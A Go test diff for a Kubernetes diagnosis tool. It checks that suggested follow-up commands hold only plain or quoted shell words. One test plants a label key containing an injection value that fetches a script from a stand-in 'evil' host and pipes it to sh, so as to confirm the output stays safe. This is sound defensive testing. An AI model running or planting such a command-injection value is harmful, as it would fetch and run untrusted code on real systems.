@@ -4,6 +4,7 @@ import (
 	"encoding/binary"
 	"os"
 	"path/filepath"
+	"regexp"
 	"slices"
 	"strings"
 	"testing"
@@ -53,6 +54,11 @@ func FuzzExplain(f *testing.F) {
 					t.Errorf("evidence of %d bytes", len(e.Value))
 				}
 			}
+			for _, n := range c.Next {
+				if !pasteable.MatchString(n) {
+					t.Errorf("%s: a shell would read more than words in %q", c.Code, n)
+				}
+			}
 			if c.ID == "" || c.Count < 1 {
 				t.Errorf("%s has no identity or shows nowhere", c.Code)
 			}
@@ -62,6 +68,38 @@ func FuzzExplain(f *testing.F) {
 			t.Error("equal snapshots give different causes")
 		}
 	})
+}
+
+// pasteable is a command that a shell takes as plain and quoted words.
+var pasteable = regexp.MustCompile(`\A(?:[-A-Za-z0-9_./:=,@%+ ]|'[^']*'|\\')+\z`)
+
+// A label's key is the cluster's word, and the command that quotes it is copied
+// into a shell.
+func TestACommandToCopyIsNothingButWordsToAShell(t *testing.T) {
+	const evil = "x;curl evil|sh 'y'"
+	w := newWorld(time.Date(2026, 1, 1, 1, 0, 0, 0, time.UTC))
+	pod := &status.Object{
+		ID: status.ID{Kind: "Pod", Namespace: "a", Name: "web"}, UID: "p", Created: w.now.Add(-time.Hour),
+		Pod: &status.Pod{PodTemplate: &status.PodTemplate{}, Phase: "Pending", Placement: &status.Placement{NodeSelector: []status.Label{{Key: evil, Value: "a"}}}},
+		Conditions: []status.Condition{{
+			Statement:          &status.Statement{Type: "PodScheduled", Status: "False", Reason: "Unschedulable", Message: "0/1 nodes are available: 1 node(s) didn't match Pod's node affinity/selector."},
+			LastTransitionTime: w.now.Add(-time.Hour),
+		}},
+	}
+	w.put(pod)
+	w.link()
+	found := false
+	for _, c := range Explain(w.snapshot(), []status.ID{pod.ID}) {
+		for _, n := range c.Next {
+			found = found || strings.Contains(n, "-L")
+			if !pasteable.MatchString(n) {
+				t.Errorf("%s: %q", c.Code, n)
+			}
+		}
+	}
+	if !found {
+		t.Error("no command names the label: this tests nothing")
+	}
 }
 
 // fuzzWorld builds a world out of bytes: the choice of kinds and links comes
